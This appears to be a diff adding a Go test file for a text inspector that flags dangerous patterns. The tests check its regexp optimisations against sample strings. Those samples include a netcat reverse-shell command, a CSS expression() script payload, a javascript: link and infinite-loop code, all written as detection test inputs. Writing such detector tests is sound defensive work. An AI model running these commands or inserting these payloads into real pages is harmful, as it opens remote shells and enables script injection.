@@ -1,0 +1,75 @@
+package inspect
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestWindowWordPrefix checks plans run without the \b they open with (so
+// that Go's regexp skips to their literal): a match of the rest inside a
+// word, after a character of several bytes, at the start of the value or
+// of a window, is one of the whole expression only where \b holds.
+func TestWindowWordPrefix(t *testing.T) {
+	compilePatterns()
+	prose := strings.Repeat("the quick brown fox jumps over the lazy dog. ", 20)
+	cases := []struct {
+		v     string
+		found bool // the whole expression matches
+	}{
+		{"xfor(a;;b) and then " + prose, false},
+		{prose + "xfor(a;;b) for(;;){}", true},
+		{"for(;;){} " + prose, true},
+		{prose + "éfor(;;){}", true},
+		{prose + "_for(;;){}", false},
+		{prose + "9for(;;){}", false},
+		{prose + "functionc -e here", false},
+		{prose + "; nc -e /bin/sh 1.2.3.4 4444", true},
+		{prose + "<p style=\"color:red;width:expression(alert(1))\">", true},
+		{prose + "do{x++}while(true)", true},
+		{prose + "undo{x++}while(x)", false},
+	}
+	for _, c := range cases {
+		if got := sameAsWhole(t, c.v) > 0; got != c.found {
+			t.Errorf("%.40q: found %v, want %v", c.v[max(0, len(c.v)-40):], got, c.found)
+		}
+	}
+	n := 0
+	for _, p := range patterns {
+		for _, w := range p.plans {
+			if w.word != nil {
+				n++
+			}
+		}
+	}
+	if n == 0 {
+		t.Error("no plan runs without its leading \\b")
+	}
+}
+
+// TestWindowNeeds checks that a window lacking a symbol every match holds
+// is skipped, and one holding it is searched: JavaScript named in a
+// sentence against href=javascript:.
+func TestWindowNeeds(t *testing.T) {
+	compilePatterns()
+	prose := strings.Repeat("javascript is a language and javascript runs in browsers. ", 20)
+	if n := sameAsWhole(t, prose); n != 0 {
+		t.Errorf("prose about javascript: %d matches, want 0", n)
+	}
+	if n := sameAsWhole(t, prose+`<a href="javascript:alert(1)">x</a>`+prose); n == 0 {
+		t.Error("href=javascript: in prose: no match")
+	}
+	for _, p := range patterns {
+		for _, w := range p.plans {
+			if strings.HasPrefix(w.re.String(), `\b(?:href|src|action)\s*=`) {
+				var eq, colon byteSet
+				eq.add('=')
+				colon.add(':')
+				if len(w.needs) != 2 || w.needs[0] != eq || w.needs[1] != colon {
+					t.Errorf("%.60q needs %d sets, want = and :", w.re.String(), len(w.needs))
+				}
+				return
+			}
+		}
+	}
+	t.Error("no plan for href=javascript:")
+}
